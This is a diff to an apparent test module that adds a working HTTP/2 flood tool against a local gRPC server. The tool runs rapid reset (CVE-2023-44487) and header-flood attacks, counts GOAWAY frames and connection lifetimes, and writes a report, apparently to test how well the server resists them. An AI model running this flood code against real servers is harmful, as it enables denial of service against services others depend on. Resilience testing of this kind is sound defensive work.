@@ -3,6 +3,11 @@
 Each connection sends the preface, its SETTINGS (and an ACK of the server's), then gRPC calls
 as bare HEADERS frames without a token, which the server refuses (UNAUTHENTICATED). HPACK is
 its simplest form: every header a literal without indexing, no Huffman coding.
+
+`StreamFlood` opens calls as fast as it can on a few connections, each reset at once by a
+RST_STREAM (rapid reset, CVE-2023-44487) or left open (header flood), and reconnects when the
+server closes a connection; it runs as its own process (`python -m tests.h2_attack`), at the
+lowest CPU priority, standing in for an attacker on another machine.
 """
 from __future__ import annotations
 
@@ -12,8 +17,9 @@ import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, SETTINGS = 0x1, 0x4
+HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+CANCEL = 0x8
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -26,13 +32,37 @@ def _literal(name: bytes, value: bytes) -> bytes:
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def call_headers(port: int, stream: int) -> bytes:
-    """A HEADERS frame opening a fedcore Connect call with no token (and no body)."""
+def call_headers(port: int, stream: int, end_stream: bool = True) -> bytes:
+    """A HEADERS frame opening a fedcore Connect call with no token (and, by default, no body)."""
     block = b"".join(_literal(n, v) for n, v in [
         (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/fedcore.Fedcore/Connect"),
         (b":authority", f"127.0.0.1:{port}".encode()), (b"content-type", b"application/grpc"),
         (b"te", b"trailers"), (b"fedcore-client-id", b"1")])
-    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)
+
+
+def idle_connections(port: int, n: int, source: str = "127.0.0.1") -> list[socket.socket]:
+    """`n` HTTP/2 connections from the loopback address `source`, each past its preface and
+    SETTINGS, then silent."""
+    conns = []
+    for _ in range(n):
+        s = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
+        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        conns.append(s)
+    return conns
+
+
+def closed_by_server(s: socket.socket) -> bool:
+    """Whether the server has closed `s` (what it sent before is read and dropped)."""
+    s.setblocking(False)
+    try:
+        while True:
+            if not s.recv(65536):
+                return True
+    except BlockingIOError:
+        return False
+    except OSError:   # reset
+        return True
 
 
 class RefusedCallFlood:
@@ -87,3 +117,112 @@ class RefusedCallFlood:
             self._stop.wait(self.every)
         for conn in conns:
             conn[0].close()
+
+
+def _goaways(data: bytes) -> tuple[int, bytes]:
+    """GOAWAY frames among the whole frames of `data`, and the bytes of the frame it cuts."""
+    n, at = 0, 0
+    while at + 9 <= len(data):
+        end = at + 9 + int.from_bytes(data[at:at + 3], "big")
+        if end > len(data):
+            break
+        n += data[at + 3] == GOAWAY
+        at = end
+    return n, data[at:]
+
+
+class StreamFlood:
+    """`conns` connections opening token-less calls in batches of `batch` as fast as the socket
+    takes them: each reset at once (`reset=True`, rapid reset) or left open (header flood).
+    A connection the server closes is reopened. Counts calls opened, connections closed by the
+    server, GOAWAY frames seen, and each connection's lifetime (seconds from its preface to
+    its close)."""
+
+    def __init__(self, port: int, conns: int, reset: bool, batch: int = 100):
+        self.port, self.conns, self.reset, self.batch = port, conns, reset, batch
+        self.calls = self.closed = self.goaways = self.stalled = 0
+        self.lifetimes: list[float] = []
+        self.stop = threading.Event()
+
+    def _open(self):
+        s = socket.create_connection(("127.0.0.1", self.port), timeout=10)
+        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        return {"sock": s, "stream": 1, "opened": time.monotonic(), "rx": b""}
+
+    def _burst(self, conn) -> bool:
+        """One batch of calls on `conn`; False once the server has closed it."""
+        s, data = conn["sock"], []
+        for _ in range(self.batch):
+            sid = conn["stream"]
+            data.append(call_headers(self.port, sid, end_stream=False))
+            if self.reset:
+                data.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
+            conn["stream"] = sid + 2
+        s.setblocking(False)
+        try:
+            while True:   # what the server said: counted for GOAWAY, then dropped
+                got = s.recv(1 << 20)
+                if not got:
+                    return False
+                n, conn["rx"] = _goaways(conn["rx"] + got)
+                self.goaways += n
+        except BlockingIOError:
+            pass
+        except OSError:
+            return False
+        s.settimeout(10.0)
+        try:   # waits while the server does not read (its backpressure), 10 s at most
+            s.sendall(b"".join(data))
+        except socket.timeout:   # the server read nothing for 10 s: the attacker drops the connection
+            self.stalled += 1
+            return False
+        except OSError:
+            return False
+        self.calls += self.batch   # (stream ids run out after 2^30 calls: hours at this rate)
+        return True
+
+    def run(self, seconds: float) -> None:
+        started = time.monotonic()
+        conns = []
+        while time.monotonic() - started < seconds and not self.stop.is_set():
+            try:
+                while len(conns) < self.conns:
+                    conns.append(self._open())
+            except OSError:   # refused or not accepted yet: try again in a moment
+                time.sleep(0.05)
+                continue
+            for conn in list(conns):
+                stalled = self.stalled
+                if not self._burst(conn):
+                    conns.remove(conn)
+                    conn["sock"].close()
+                    if self.stalled == stalled:   # closed by the server
+                        self.closed += 1
+                        self.lifetimes.append(time.monotonic() - conn["opened"])
+        for conn in conns:
+            conn["sock"].close()
+
+
+def main(argv=None) -> None:
+    """python -m tests.h2_attack PORT (rapid-reset|header-flood) CONNS SECONDS REPORT.json
+
+    Runs at the lowest CPU priority, standing in for an attacker on another machine: what is
+    measured is what its calls cost the server, not the CPU its own process takes. Ends after
+    SECONDS or on SIGTERM, then writes its counts to REPORT.json."""
+    import json
+    import os
+    import signal
+    import sys
+    port, kind, conns, seconds, report = (argv or sys.argv[1:])
+    os.nice(19)
+    flood = StreamFlood(int(port), int(conns), reset=kind == "rapid-reset")
+    signal.signal(signal.SIGTERM, lambda *_: flood.stop.set())
+    flood.run(float(seconds))
+    lifetimes = sorted(flood.lifetimes)
+    with open(report, "w") as fh:
+        json.dump({"calls": flood.calls, "closed": flood.closed, "goaways": flood.goaways, "stalled": flood.stalled,
+                   "lifetimes": lifetimes}, fh)
+
+
+if __name__ == "__main__":
+    main()
